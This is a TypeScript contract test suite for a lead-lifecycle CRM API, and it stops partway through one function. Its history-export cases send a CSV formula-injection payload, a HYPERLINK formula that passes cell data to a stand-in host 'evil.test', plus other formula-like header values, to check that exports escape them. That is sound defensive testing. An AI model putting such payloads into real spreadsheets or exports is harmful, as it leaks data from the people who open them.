import { HttpStatus } from '@nestjs/common';
import { spawnSync } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { OpenAPIV3 } from 'openapi-types';
import * as ts from 'typescript';
import { DEFAULT_LIFECYCLE_CONFIG } from '@lead-lifecycle/domain';
import { positionToString, SqliteKeyStore } from '@lead-lifecycle/eventing';
import { createEventStore, CSV_COLUMNS, EngineConfig, FORMULA_TRIGGERS } from '@lead-lifecycle/lifecycle';
import { FaultInjectingEventStore, type StoreFault } from '../support/fault-injecting-event-store';
import { OpenApiAnswerValidator, type RawAnswer } from '../support/openapi-answer-validator';
import type { OpenApiVerdict } from '../support/openapi-tools.cli';
import { parseCsv } from '../support/rfc4180-csv';
import { removeDataDir, startTestApp, TEST_PLATFORM_KEY, type TestApp } from '../support/test-app';

/**
 * The API contract: the OpenAPI document served at /docs/openapi.json is valid (swagger-parser), lints
 * clean (spectral:oas), generates a concrete client type for every answer (openapi-typescript) — those
 * three run in a process of their own (test/support/openapi-tools.cli.ts), jest cannot load them — and every
 * operation in it is called for real, its success answers and its error answers, each answer validated
 * with ajv against the schema documented for its status. Operations come from the document: one without
 * cases fails, and so does a documented status that is neither provoked nor listed as not exercised.
 */

jest.setTimeout(300_000);

// ---------------------------------------------------------------------------------------------------
// Requests and the apps they go to
// ---------------------------------------------------------------------------------------------------

/** One request to an operation: the path's `{id}`, query, JSON body (or a raw one), headers. */
interface Req {
  readonly id?: string;
  /** The `{keyId}` of the admin routes. */
  readonly keyId?: string;
  /** The `{teamId}` and `{ownerId}` of the team routes. */
  readonly teamId?: string;
  readonly ownerId?: string;
  readonly query?: Record<string, string>;
  readonly body?: unknown;
  readonly raw?: { readonly contentType: string; readonly text: string };
  readonly headers?: Record<string, string>;
  /** The success status this request gets, when the operation has more than one. */
  readonly expect?: number;
}

const allBant = { budget: { met: true, note: 'approved' }, authority: { met: true }, need: { met: true }, timeline: { met: true } };
const noBant = { budget: { met: false }, authority: { met: false }, need: { met: false }, timeline: { met: true } };
const highFit = { jobTitle: 'VP Engineering', company: { name: 'Acme', size: 5000, industry: 'software', country: 'US' } };
const email = () => `${randomUUID()}@contract.test`;
/** Times inside every rule (no future skew, no deep backdating): an hour ago and now. */
const anHourAgo = () => new Date(Date.now() - 3_600_000).toISOString();
const now = () => new Date().toISOString();
const nextYearDate = () => `${new Date().getUTCFullYear() + 1}-06-30`;

/** A booted app, with the fixtures the cases build on it. */
class Api {
  constructor(
    readonly app: TestApp,
    /** Set on the app whose store fails on demand. */
    readonly faults?: FaultInjectingEventStore,
  ) {}

  /** Sends a request and keeps the body as raw text, whatever its content type. */
  async send(method: string, path: string, req: Omit<Req, 'id'> = {}): Promise<RawAnswer> {
    let test = (Reflect.get(this.app.http, method) as (url: string) => import('supertest').Test).call(this.app.http, path);
    if (req.query) test = test.query(req.query);
    for (const [name, value] of Object.entries(req.headers ?? {})) test = test.set(name, value);
    if (req.raw) test = test.set('Content-Type', req.raw.contentType).send(req.raw.text);
    else if (req.body !== undefined) test = test.send(req.body as object);
    const response = await test.buffer(true).parse((res, done) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (chunk: string) => (text += chunk));
      res.on('end', () => done(null, text));
    });
    return { status: response.status, headers: response.headers, text: response.body as string };
  }

  /** A command that must succeed (a fixture step); its JSON answer. */
  async ok(path: string, body: unknown, headers: Record<string, string> = {}): Promise<Record<string, unknown>> {
    const answer = await this.send('post', path, { body, headers });
    if (answer.status >= 300) throw new Error(`fixture step POST ${path} answered ${answer.status}: ${answer.text}`);
    return JSON.parse(answer.text);
  }

  async capture(body: Record<string, unknown> = {}, headers: Record<string, string> = {}): Promise<{ leadId: string; position: string }> {
    const answer = await this.ok('/v1/leads', { contact: { email: email() }, source: { channel: 'email' }, ...body }, headers);
    return { leadId: String(answer.leadId), position: String(answer.position) };
  }

  /** A lead in stage `lead` (no fit points). */
  async lead(): Promise<string> {
    return (await this.capture()).leadId;
  }

  /** A lead whose fit makes it an MQL at capture. */
  async mql(headers: Record<string, string> = {}): Promise<string> {
    return (await this.capture({ ...highFit, source: { channel: 'partner', campaign: 'alliances', cost: 80 } }, headers)).leadId;
  }

  async sql(headers: Record<string, string> = {}): Promise<string> {
    const leadId = await this.mql(headers);
    await this.ok(`/v1/leads/${leadId}/sql`, { bant: allBant, qualifiedBy: 'sdr-1' }, headers);
    return leadId;
  }

  async opportunity(headers: Record<string, string> = {}): Promise<{ leadId: string; opportunityId: string; position: string }> {
    const leadId = await this.sql(headers);
    const opened = await this.ok(`/v1/leads/${leadId}/opportunities`, { name: 'Acme rollout', amount: 24000, currency: 'EUR', expectedCloseDate: nextYearDate() }, headers);
    return { leadId, opportunityId: String(opened.opportunityId), position: String(opened.position) };
  }

  /** A customer: its opportunity moved a stage and won. Answers the last command's position. */
  async won(headers: Record<string, string> = {}): Promise<{ leadId: string; opportunityId: string; position: string }> {
    const { leadId, opportunityId } = await this.opportunity(headers);
    await this.ok(`/v1/opportunities/${opportunityId}/stage`, { stage: 'proposal' }, headers);
    const won = await this.ok(`/v1/opportunities/${opportunityId}/win`, { amount: 25000 }, headers);
    return { leadId, opportunityId, position: String(won.position) };
  }

  async lost(): Promise<{ leadId: string; opportunityId: string; position: string }> {
    const { leadId, opportunityId } = await this.opportunity();
    const lost = await this.ok(`/v1/opportunities/${opportunityId}/lose`, { reason: 'price', note: 'too dear' });
    return { leadId, opportunityId, position: String(lost.position) };
  }

  async disqualified(): Promise<string> {
    const leadId = await this.lead();
    await this.ok(`/v1/leads/${leadId}/disqualify`, { reason: 'no_budget', note: 'none this year' });
    return leadId;
  }

  async nurturing(): Promise<string> {
    const leadId = await this.lead();
    await this.ok(`/v1/leads/${leadId}/recycle`, { reason: 'not now' });
    return leadId;
  }

  async erased(): Promise<string> {
    const leadId = await this.lead();
    await this.ok(`/v1/leads/${leadId}/forget`, { reason: 'GDPR request' });
    return leadId;
  }

  async head(): Promise<string> {
    return positionToString(await this.app.store.headPosition());
  }
}

// ---------------------------------------------------------------------------------------------------
// What each operation is called with
// ---------------------------------------------------------------------------------------------------

type Prepare = (api: Api) => Promise<Req>;

/** A case for one status: prepared on fresh state, then (optionally) changed into the refused request. */
interface StatusCase {
  readonly name: string;
  readonly status: number;
  readonly prepare: Prepare;
}

interface OperationSpec {
  /** A request that succeeds, on state made for it (called afresh by every case that needs one). */
  readonly prepare: Prepare;
  /** Further success answers: other statuses, other shapes of the answer. */
  readonly successes?: readonly StatusCase[];
  /** The request with another valid body, for the Idempotency-Key reused with another body (422). */
  readonly vary?: (req: Req) => Req;
  /** Refusals only this operation has; the common ones (bad id, headers, body, faults) come from the document. */
  readonly errors?: readonly StatusCase[];
  /** Documented statuses the test cannot provoke in-process, and why. */
  readonly notExercised?: Readonly<Partial<Record<number, string>>>;
}

/** The engine's defaults with one host stage before lead, so that POST /v1/leads/{id}/stage has a move to make. */
const WITH_HOST_STAGE = { ...DEFAULT_LIFECYCLE_CONFIG, stages: { beforeLead: ['subscriber'], afterCustomer: [] } };

const READ_MODEL_500 =
  'the read-model queries read the SQLite read models only (the event store is not touched without minPosition), and a fault in SQLite cannot be injected in-process';

const amend = (req: Req, change: Partial<Req>): Req => ({ ...req, ...change, query: { ...req.query, ...change.query }, headers: { ...req.headers, ...change.headers } });
const statusCase = (name: string, status: number, prepare: Prepare): StatusCase => ({ name, status, prepare });

const PLATFORM = { Authorization: `Bearer ${TEST_PLATFORM_KEY}` };

let teams = 0;
/** A fresh team of the default tenant with the member `rep-1`. */
async function teamWithMember(api: Api): Promise<string> {
  const teamId = `contract-${++teams}`;
  await api.send('post', '/v1/teams', { body: { teamId, name: 'Contract' } });
  await api.send('post', `/v1/teams/${teamId}/members`, { body: { ownerId: 'rep-1', capacity: 3 } });
  return teamId;
}

const SPECS: Record<string, OperationSpec> = {
  'POST /v1/teams': {
    prepare: async () => ({ body: { teamId: `contract-new-${++teams}`, name: 'New team' } }),
    vary: (req) => ({ ...req, body: { teamId: `contract-new-${++teams}`, name: 'Other' } }),
    errors: [
      statusCase('a team id that is not a slug', 400, async () => ({ body: { teamId: 'Not A Slug', name: 'x' } })),
      statusCase('a team that exists', 409, async (api) => ({ body: { teamId: await teamWithMember(api), name: 'again' } })),
    ],
  },
  'POST /v1/teams/{teamId}/members': {
    prepare: async (api) => ({ teamId: await teamWithMember(api), body: { ownerId: 'rep-2', capacity: 5, weight: 2 } }),
    vary: (req) => ({ ...req, body: { ownerId: 'rep-3' } }),
    errors: [
      statusCase('a team that does not exist', 404, async () => ({ teamId: 'no-such-team', body: { ownerId: 'rep-2' } })),
      statusCase('a member already added', 409, async (api) => ({ teamId: await teamWithMember(api), body: { ownerId: 'rep-1' } })),
      statusCase('a negative capacity', 400, async (api) => ({ teamId: await teamWithMember(api), body: { ownerId: 'rep-2', capacity: -1 } })),
    ],
  },
  'DELETE /v1/teams/{teamId}/members/{ownerId}': {
    prepare: async (api) => ({ teamId: await teamWithMember(api), ownerId: 'rep-1' }),
    errors: [statusCase('an owner who is not a member', 404, async (api) => ({ teamId: await teamWithMember(api), ownerId: 'rep-9' }))],
  },
  'POST /v1/teams/{teamId}/members/{ownerId}/availability': {
    prepare: async (api) => ({ teamId: await teamWithMember(api), ownerId: 'rep-1', body: { available: false, until: new Date(Date.now() + 3_600_000).toISOString() } }),
    vary: (req) => ({ ...req, body: { available: false } }),
    errors: [
      statusCase('until with available: true', 400, async (api) => ({ teamId: await teamWithMember(api), ownerId: 'rep-1', body: { available: true, until: nextYearDate() + 'T00:00:00Z' } })),
      statusCase('a team that does not exist', 404, async () => ({ teamId: 'no-such-team', ownerId: 'rep-1', body: { available: false } })),
    ],
  },
  'GET /v1/teams/{teamId}': {
    prepare: async (api) => ({ teamId: await teamWithMember(api) }),
    errors: [statusCase('a team that does not exist', 404, async () => ({ teamId: 'no-such-team' }))],
  },
  'GET /v1/queue': {
    prepare: async () => ({ query: { limit: '10' } }),
    errors: [statusCase('limit 0', 400, async () => ({ query: { limit: '0' } }))],
  },
  'POST /v1/admin/api-keys': {
    prepare: async () => ({ body: { tenantId: 'acme', roles: ['rep'], name: 'crm sync', ownerId: 'rep-7', expiresAt: nextYearDate() + 'T00:00:00Z' }, headers: PLATFORM }),
    errors: [
      statusCase('an unknown role', 400, async () => ({ body: { tenantId: 'acme', roles: ['overlord'], name: 'x' }, headers: PLATFORM })),
      statusCase('a rep key without owner', 400, async () => ({ body: { tenantId: 'acme', roles: ['rep'], name: 'x' }, headers: PLATFORM })),
    ],
  },
  'GET /v1/admin/api-keys': {
    prepare: async () => ({ headers: PLATFORM }),
    successes: [statusCase('the keys of one tenant', 200, async () => ({ query: { tenantId: 'default' }, headers: PLATFORM }))],
  },
  'DELETE /v1/admin/api-keys/{keyId}': {
    prepare: async (api) => ({ keyId: (await api.app.createKey({ tenantId: 'acme', roles: ['auditor'], name: 'to revoke' })).keyId, headers: PLATFORM }),
    errors: [statusCase('a key nobody has', 404, async () => ({ keyId: '0000000000000000', headers: PLATFORM }))],
  },
  'POST /v1/leads': {
    prepare: async () => ({ body: { contact: { email: email(), firstName: 'Ada' }, ...highFit, source: { channel: 'web_form' } }, expect: 201 }),
    successes: [
      statusCase('a capture-only key (a public web form): accepted, nothing more said', 202, async (api) => ({
        body: { contact: { email: email() }, source: { channel: 'web_form' } },
        headers: { Authorization: `Bearer ${(await api.app.createKey({ tenantId: 'default', roles: ['capture'], name: 'web form' })).key}` },
        expect: 202,
      })),
      statusCase('a capture that matches an existing lead by email', 200, async (api) => {
        const address = email();
        await api.capture({ contact: { email: address } });
        return { body: { contact: { email: address.toUpperCase() }, source: { channel: 'seo' } }, expect: 200 };
      }),
    ],
    vary: (req) => ({ ...req, body: { ...(req.body as object), jobTitle: 'CTO' } }),
    errors: [
      statusCase('no source, no identity', 400, async () => ({ body: { contact: { firstName: 'x' } } })),
      statusCase('an unknown field', 400, async () => ({ body: { contact: { email: email() }, source: { channel: 'seo' }, extra: 1 } })),
    ],
  },
  'POST /v1/leads/{id}/activities': {
    prepare: async (api) => ({ id: await api.lead(), body: { type: 'pricing_page_view', properties: { page: '/pricing' } } }),
    vary: (req) => ({ ...req, body: { type: 'email_open' } }),
    errors: [statusCase('an activity type the configuration does not know', 400, async (api) => ({ id: await api.lead(), body: { type: 'telepathy' } }))],
  },
  'POST /v1/leads/{id}/sql': {
    prepare: async (api) => ({ id: await api.mql(), body: { bant: allBant, qualifiedBy: 'sdr-1' } }),
    vary: (req) => ({ ...req, body: { bant: allBant, qualifiedBy: 'sdr-2' } }),
    errors: [
      statusCase('a lead that is not an MQL', 409, async (api) => ({ id: await api.lead(), body: { bant: allBant, qualifiedBy: 'sdr-1' } })),
      statusCase('BANT not met', 409, async (api) => ({ id: await api.mql(), body: { bant: noBant, qualifiedBy: 'sdr-1' } })),
      statusCase('a BANT criterion missing', 400, async (api) => ({ id: await api.mql(), body: { bant: { budget: { met: true } }, qualifiedBy: 'sdr-1' } })),
    ],
  },
  'POST /v1/leads/{id}/assign': {
    prepare: async (api) => ({ id: await api.lead(), body: { ownerId: 'rep-7' } }),
    vary: (req) => ({ ...req, body: { ownerId: 'rep-8' } }),
    errors: [statusCase('an empty owner', 400, async (api) => ({ id: await api.lead(), body: { ownerId: '' } }))],
  },
  'POST /v1/leads/{id}/disqualify': {
    prepare: async (api) => ({ id: await api.lead(), body: { reason: 'no_budget', note: 'none this year' } }),
    vary: (req) => ({ ...req, body: { reason: 'no_need' } }),
    errors: [
      statusCase('a lead already disqualified', 409, async (api) => ({ id: await api.disqualified(), body: { reason: 'no_need' } })),
      statusCase('an unknown reason', 400, async (api) => ({ id: await api.lead(), body: { reason: 'bored' } })),
    ],
  },
  'POST /v1/leads/{id}/recycle': {
    prepare: async (api) => ({ id: await api.lead(), body: { reason: 'not now' } }),
    vary: (req) => ({ ...req, body: { reason: 'next quarter' } }),
    errors: [statusCase('a lead already in nurturing', 409, async (api) => ({ id: await api.nurturing(), body: {} }))],
  },
  'POST /v1/leads/{id}/stage': {
    // A subscriber (WITH_HOST_STAGE) advancing into lead; asking for its own stage is the other valid body.
    prepare: async (api) => ({ id: (await api.capture({ stage: 'subscriber' })).leadId, body: { stage: 'lead' } }),
    vary: (req) => ({ ...req, body: { stage: 'subscriber' } }),
    errors: [
      statusCase('a stage that is not the next one', 409, async (api) => ({ id: await api.lead(), body: { stage: 'customer' } })),
      statusCase('an empty stage', 400, async (api) => ({ id: await api.lead(), body: { stage: '' } })),
    ],
  },
  'POST /v1/leads/{id}/opportunities': {
    prepare: async (api) => ({ id: await api.sql(), body: { name: 'Acme rollout', amount: 24000, currency: 'EUR', expectedCloseDate: nextYearDate() } }),
    vary: (req) => ({ ...req, body: { amount: 1000, currency: 'EUR' } }),
    errors: [
      statusCase('a lead that is not an SQL', 409, async (api) => ({ id: await api.lead(), body: { amount: 1000, currency: 'EUR' } })),
      statusCase('a currency that is not ISO 4217', 400, async (api) => ({ id: await api.sql(), body: { amount: 1000, currency: 'euro' } })),
    ],
  },
  'POST /v1/leads/{id}/forget': {
    prepare: async (api) => ({ id: await api.lead(), body: { reason: 'GDPR erasure request #1' } }),
    vary: (req) => ({ ...req, body: { reason: 'GDPR erasure request #2' } }),
    errors: [statusCase('no reason', 400, async (api) => ({ id: await api.lead(), body: {} }))],
  },
  'POST /v1/leads/{id}/rescore': {
    prepare: async (api) => ({ id: await api.lead(), body: { reason: 'repair after a quarantine' } }),
    vary: (req) => ({ ...req, body: { reason: 'another reason' } }),
    errors: [statusCase('an unknown field', 400, async (api) => ({ id: await api.lead(), body: { force: false } }))],
  },
  'GET /v1/leads/{id}': {
    prepare: async (api) => ({ id: await api.lead() }),
    successes: [
      statusCase('an SQL (bant, qualifiedBy)', 200, async (api) => ({ id: await api.sql() })),
      statusCase('a customer (convertedAt, wonOpportunityId)', 200, async (api) => ({ id: (await api.won()).leadId })),
      statusCase('a disqualified lead', 200, async (api) => ({ id: await api.disqualified() })),
      statusCase('a lead in nurturing', 200, async (api) => ({ id: await api.nurturing() })),
      statusCase('a lead whose personal data was erased', 200, async (api) => ({ id: await api.erased() })),
      statusCase('as of a business time', 200, async (api) => ({ id: await api.sql(), query: { asOf: now() } })),
      statusCase('as of a recorded time', 200, async (api) => ({ id: await api.sql(), query: { asOf: now(), asOfTime: 'recorded' } })),
      statusCase('as of stream revision 0', 200, async (api) => ({ id: await api.sql(), query: { revision: '0' } })),
    ],
    errors: [
      statusCase('asOf is not a time', 400, async (api) => ({ id: await api.lead(), query: { asOf: 'yesterday' } })),
      statusCase('asOfTime is not business or recorded', 400, async (api) => ({ id: await api.lead(), query: { asOf: now(), asOfTime: 'wall' } })),
      statusCase('a negative revision', 400, async (api) => ({ id: await api.lead(), query: { revision: '-1' } })),
    ],
  },
  'GET /v1/leads/{id}/history': {
    // A whole journey, written by an actor and a correlation id a spreadsheet would run as formulas.
    prepare: async (api) => ({ id: (await api.won({ 'X-Actor': '=HYPERLINK("http://evil.test/?"&A1,"x")', 'X-Correlation-Id': '@SUM(A1:A9)' })).leadId }),
    successes: [
      statusCase('as NDJSON', 200, async (api) => ({ id: (await api.won()).leadId, query: { format: 'ndjson' } })),
      statusCase('as CSV, with formula-like cells', 200, async (api) => ({
        id: (await api.won({ 'X-Actor': '=HYPERLINK("http://evil.test/?"&A1,"x")', 'X-Correlation-Id': '+1-1' })).leadId,
        query: { format: 'csv' },
      })),
      statusCase('as JSON, asked for', 200, async (api) => ({ id: await api.erased(), query: { format: 'json' } })),
    ],
    errors: [statusCase('an unknown format', 400, async (api) => ({ id: await api.lead(), query: { format: 'xlsx' } }))],
  },
  'GET /v1/leads/{id}/integrity': {
    // A won lead: its own stream and its opportunity's, both sealed.
    prepare: async (api) => ({ id: (await api.won()).leadId }),
    successes: [statusCase('an erased lead (the chain holds: erasure destroys keys, not events)', 200, async (api) => ({ id: await api.erased() }))],
    errors: [],
  },
  'GET /v1/opportunities/{id}': {
    prepare: async (api) => ({ id: (await api.opportunity()).opportunityId }),
    successes: [
      statusCase('a won opportunity', 200, async (api) => ({ id: (await api.won()).opportunityId })),
      statusCase('a lost opportunity', 200, async (api) => ({ id: (await api.lost()).opportunityId })),
    ],
  },
  'POST /v1/opportunities/{id}/stage': {
    prepare: async (api) => ({ id: (await api.opportunity()).opportunityId, body: { stage: 'proposal' } }),
    vary: (req) => ({ ...req, body: { stage: 'negotiation' } }),
    errors: [
      statusCase('the stage it is already in', 409, async (api) => ({ id: (await api.opportunity()).opportunityId, body: { stage: 'qualification' } })),
      statusCase('a closed opportunity', 409, async (api) => ({ id: (await api.won()).opportunityId, body: { stage: 'negotiation' } })),
      statusCase('a stage the pipeline does not have', 400, async (api) => ({ id: (await api.opportunity()).opportunityId, body: { stage: 'dreaming' } })),
    ],
  },
  'POST /v1/opportunities/{id}/win': {
    prepare: async (api) => ({ id: (await api.opportunity()).opportunityId, body: { amount: 25000 } }),
    vary: (req) => ({ ...req, body: { amount: 26000 } }),
    errors: [
      statusCase('an opportunity already won', 409, async (api) => ({ id: (await api.won()).opportunityId, body: {} })),
      statusCase('a negative amount', 400, async (api) => ({ id: (await api.opportunity()).opportunityId, body: { amount: -1 } })),
    ],
  },
  'POST /v1/opportunities/{id}/lose': {
    prepare: async (api) => ({ id: (await api.opportunity()).opportunityId, body: { reason: 'price', note: 'too dear' } }),
    vary: (req) => ({ ...req, body: { reason: 'timing' } }),
    errors: [
      statusCase('an opportunity already lost', 409, async (api) => ({ id: (await api.lost()).opportunityId, body: { reason: 'price' } })),
      statusCase('no reason', 400, async (api) => ({ id: (await api.opportunity()).opportunityId, body: {} })),
    ],
  },
  'GET /v1/leads': {
    prepare: async (api) => ({ query: { minPosition: (await api.capture(highFit)).position } }),
    successes: [
      statusCase('filtered and sorted by last activity', 200, async (api) => {
        await api.mql();
        return { query: { stage: 'mql', temperature: 'hot', channel: 'partner', minScore: '10', sort: 'lastActivity', minPosition: api.app.token('default', await api.head()) } };
      }),
      statusCase('a page with a next cursor, then the next page', 200, async (api) => {
        await api.capture();
        const position = (await api.capture()).position;
        const first = JSON.parse((await api.send('get', '/v1/leads', { query: { limit: '1', minPosition: position } })).text);
        if (typeof first.nextCursor !== 'string') throw new Error(`expected a next cursor: ${JSON.stringify(first)}`);
        return { query: { limit: '1', cursor: first.nextCursor } };
      }),
    ],
    errors: [
      statusCase('limit 0', 400, async () => ({ query: { limit: '0' } })),
      statusCase('a cursor that is not one', 400, async () => ({ query: { cursor: 'not-a-cursor' } })),
      statusCase('an unknown stage', 400, async () => ({ query: { stage: 'prospect' } })),
      statusCase('a minPosition that is not a position', 400, async () => ({ query: { minPosition: 'latest' } })),
    ],
    notExercised: { 500: READ_MODEL_500 },
  },
  'GET /v1/funnel': {
    prepare: async (api) => ({ query: { minPosition: (await api.won()).position } }),
    successes: [
      statusCase('grouped by channel', 200, async (api) => ({ query: { groupBy: 'channel', minPosition: (await api.lost()).position } })),
      statusCase('grouped by campaign, for a period and a channel', 200, async (api) => {
        const { position } = await api.won();
        return { query: { groupBy: 'campaign', channel: 'partner', from: anHourAgo(), to: now(), minPosition: position } };
      }),
    ],
    errors: [
      statusCase('from is not a time', 400, async () => ({ query: { from: 'last week' } })),
      statusCase('an unknown groupBy', 400, async () => ({ query: { groupBy: 'owner' } })),
    ],
    notExercised: { 500: READ_MODEL_500 },
  },
  'GET /v1/funnel/leads/{id}': {
    prepare: async (api) => {
      const { leadId, position } = await api.won();
      return { id: leadId, query: { minPosition: position } };
    },
    notExercised: { 500: READ_MODEL_500 },
  },
  'GET /v1/kpis': {
    prepare: async (api) => {
      await api.won();
      await api.disqualified();
      return { query: { minPosition: (await api.lost()).position } };
    },
    successes: [
      statusCase('for a channel and a period', 200, async (api) => {
        const { position } = await api.won();
        return { query: { channel: 'partner', from: anHourAgo(), to: now(), minPosition: position } };
      }),
    ],
    errors: [statusCase('to is not a time', 400, async () => ({ query: { to: '31/12/2026' } }))],
    notExercised: { 500: READ_MODEL_500 },
  },
  'GET /v1/sla': {
    prepare: async () => ({}),
    successes: [statusCase('for a channel and a period', 200, async () => ({ query: { channel: 'partner', from: anHourAgo(), to: now() } }))],
    errors: [
      statusCase('from is not a time', 400, async () => ({ query: { from: 'last week' } })),
      statusCase('an unknown channel', 400, async () => ({ query: { channel: 'carrier_pigeon' } })),
      statusCase('an unknown parameter', 400, async () => ({ query: { ownerId: 'rep-1' } })),
    ],
    notExercised: { 500: 'the SLA report reads the SLA reaction\'s SQLite state file only, and a fault in SQLite cannot be injected in-process' },
  },
  'GET /v1/projections': { prepare: async () => ({}) },
  'GET /health': { prepare: async () => ({}) },
  'GET /health/ready': {
    prepare: async () => ({}),
    notExercised: { 500: 'readiness turns every fault of the store into a failed check, 503 NOT_READY: the probe never answers 500' },
  },
};

// ---------------------------------------------------------------------------------------------------
// The cases every operation gets from what its document says
// ---------------------------------------------------------------------------------------------------

/** An answer to check, with the status the case expects and any further check. */
interface Exchange {
  readonly label: string;
  readonly answer: RawAnswer;
  readonly expected: number;
  readonly problems?: string[];
}

interface Case {
  readonly name: string;
  /** `faulty`: on the app whose store fails on demand. */
  readonly app: 'main' | 'faulty' | 'limited';
  run(api: Api): Promise<Exchange[]>;
}

interface Operation {
  readonly key: string;
  readonly method: string;
  readonly path: string;
  readonly raw: OpenAPIV3.OperationObject;
  readonly resolved: OpenAPIV3.OperationObject;
}

const pathOf = (op: Operation, req: Req) =>
  op.path
    .replace('{id}', req.id ?? randomUUID())
    .replace('{keyId}', req.keyId ?? '0000000000000000')
    .replace('{teamId}', req.teamId ?? 'no-such-team')
    .replace('{ownerId}', req.ownerId ?? 'nobody');
const parameters = (op: Operation) => (op.raw.parameters ?? []) as OpenAPIV3.ParameterObject[];
const documents = (op: Operation, status: number) => String(status) in (op.raw.responses ?? {});
const successStatuses = (op: Operation) => Object.keys(op.raw.responses ?? {}).map(Number).filter((s) => s >= 200 && s < 300);
const ONE_MEBIBYTE_OF_JSON = JSON.stringify({ pad: 'x'.repeat(1024 * 1024) });

function expectedSuccess(op: Operation, req: Req): number {
  if (req.expect) return req.expect;
  const statuses = successStatuses(op);
  if (statuses.length !== 1) throw new Error(`${op.key} documents ${statuses.join(', ')}: the case must say which it expects`);
  return statuses[0];
}

async function sendReq(api: Api, op: Operation, req: Req): Promise<RawAnswer> {
  return api.send(op.method, pathOf(op, req), req);
}

/** Prepares on fresh state, changes the request, sends it; a refusal on the main app must append nothing. */
function single(op: Operation, name: string, status: number | 'success', prepare: Prepare, change: (req: Req) => Req = (r) => r, fault?: StoreFault): Case {
  return {
    name,
    app: fault ? 'faulty' : 'main',
    async run(api) {
      const req = change(await prepare(api));
      const expected = status === 'success' ? expectedSuccess(op, req) : status;
      if (fault) {
        api.faults!.fault = fault;
        try {
          return [{ label: name, answer: await sendReq(api, op, req), expected }];
        } finally {
          api.faults!.fault = 'none';
        }
      }
      const before = await api.head();
      const answer = await sendReq(api, op, req);
      const after = await api.head();
      const problems = expected >= 400 && before !== after ? [`a refused request moved the head from ${before} to ${after}`] : [];
      return [{ label: name, answer, expected, problems }];
    },
  };
}

function casesOf(op: Operation, spec: OperationSpec): Case[] {
  const cases: Case[] = [];
  const headers = parameters(op).filter((p) => p.in === 'header').map((p) => p.name);
  const hasId = op.path.includes('{id}');
  const readModel = parameters(op).some((p) => p.in === 'query' && p.name === 'minPosition');
  const isPost = op.method === 'post';

  cases.push(single(op, 'the success case', 'success', spec.prepare));
  for (const c of spec.successes ?? []) cases.push(single(op, c.name, c.status, c.prepare));
  for (const c of spec.errors ?? []) cases.push(single(op, c.name, c.status, c.prepare));

  if (documents(op, 400) && hasId) cases.push(single(op, 'an id that is not a UUID', 400, spec.prepare, (r) => ({ ...r, id: 'not-a-uuid' })));
  if (documents(op, 404) && hasId) cases.push(single(op, 'an id nobody has', 404, spec.prepare, (r) => ({ ...r, id: randomUUID() })));
  if (documents(op, 404) && hasId) {
    cases.push(
      single(op, "another tenant's id", 404, spec.prepare, (r) => {
        // A minPosition token is bound to the tenant that wrote: the other tenant's request carries none.
        const { minPosition: _token, ...query } = r.query ?? {};
        return { ...amend(r, { headers: { 'X-Tenant-Id': `other-${randomUUID().slice(0, 8)}` } }), query };
      }),
    );
  }
  if (documents(op, 403) && headers.includes('X-Tenant-Id')) {
    cases.push(single(op, 'an X-Tenant-Id with spaces', 403, spec.prepare, (r) => amend(r, { headers: { 'X-Tenant-Id': 'no such tenant!' } })));
  }
  if (documents(op, 401)) {
    cases.push(single(op, 'an unknown API key', 401, spec.prepare, (r) => amend(r, { headers: { Authorization: 'Bearer llk_0123456789abcdef_unknownunknownunknown' } })));
    cases.push(single(op, 'a malformed Authorization header', 401, spec.prepare, (r) => amend(r, { headers: { Authorization: 'Basic dXNlcjpwYXNz' } })));
  }
  if (documents(op, 403) && op.path.startsWith('/v1/admin/')) {
    cases.push(
      single(op, "a tenant's admin key, which manages no keys", 403, async (api) => amend(await spec.prepare(api), { headers: { Authorization: `Bearer ${await api.app.adminKey()}` } })),
    );
  }
  if (documents(op, 403) && !op.path.startsWith('/v1/admin/')) {
    cases.push(
      single(op, 'a credential of another tenant than X-Tenant-Id', 403, async (api) =>
        amend(await spec.prepare(api), { headers: { Authorization: `Bearer ${await api.app.adminKey()}`, 'X-Tenant-Id': 'someone-else' } }),
      ),
    );
    if (!op.path.startsWith('/v1/admin/') && op.raw.security?.length !== 0 && !['/health', '/health/ready'].includes(op.path)) {
      cases.push(single(op, 'the platform key, which reads nothing', 403, spec.prepare, (r) => amend(r, { headers: { Authorization: `Bearer ${TEST_PLATFORM_KEY}` } })));
    }
  }
  if (documents(op, 429)) cases.push(rateLimitedCase(op));
  if (documents(op, 400) && headers.includes('X-Correlation-Id')) {
    cases.push(single(op, 'an X-Correlation-Id over 200 characters', 400, spec.prepare, (r) => amend(r, { headers: { 'X-Correlation-Id': 'c'.repeat(201) } })));
  }
  if (documents(op, 400) && isPost) {
    cases.push(single(op, 'malformed JSON', 400, spec.prepare, (r) => ({ ...r, raw: { contentType: 'application/json', text: '{"contact": {' } })));
  }
  if (documents(op, 413)) {
    cases.push(single(op, 'a body over the size limit', 413, spec.prepare, (r) => ({ ...r, raw: { contentType: 'application/json', text: ONE_MEBIBYTE_OF_JSON } })));
  }
  if (documents(op, 415)) {
    cases.push(single(op, 'a text/plain body', 415, spec.prepare, (r) => ({ ...r, raw: { contentType: 'text/plain', text: JSON.stringify(r.body ?? {}) } })));
    cases.push(
      single(op, 'JSON in ISO-8859-1', 415, spec.prepare, (r) => ({ ...r, raw: { contentType: 'application/json; charset=iso-8859-1', text: JSON.stringify(r.body ?? {}) } })),
    );
    cases.push(single(op, 'a form-encoded body', 415, spec.prepare, (r) => ({ ...r, raw: { contentType: 'application/x-www-form-urlencoded', text: 'a=1' } })));
  }
  if (headers.includes('Idempotency-Key')) {
    cases.push(replayCase(op, spec));
    if (spec.vary) cases.push(reuseCase(op, spec, spec.vary));
    if (documents(op, 400)) cases.push(single(op, 'an Idempotency-Key over 200 characters', 400, spec.prepare, (r) => amend(r, { headers: { 'Idempotency-Key': 'k'.repeat(201) } })));
  }
  if (documents(op, 409) && isPost) cases.push(single(op, 'every append loses a concurrency race', 409, spec.prepare, undefined, 'conflicting'));
  // An operation that lists 500 as not exercised reads no store (GET /v1/sla): a store fault cannot provoke it.
  if (documents(op, 500) && !readModel && spec.notExercised?.[500] === undefined) cases.push(single(op, 'the store fails unexpectedly', 500, spec.prepare, undefined, 'broken'));
  if (documents(op, 503)) {
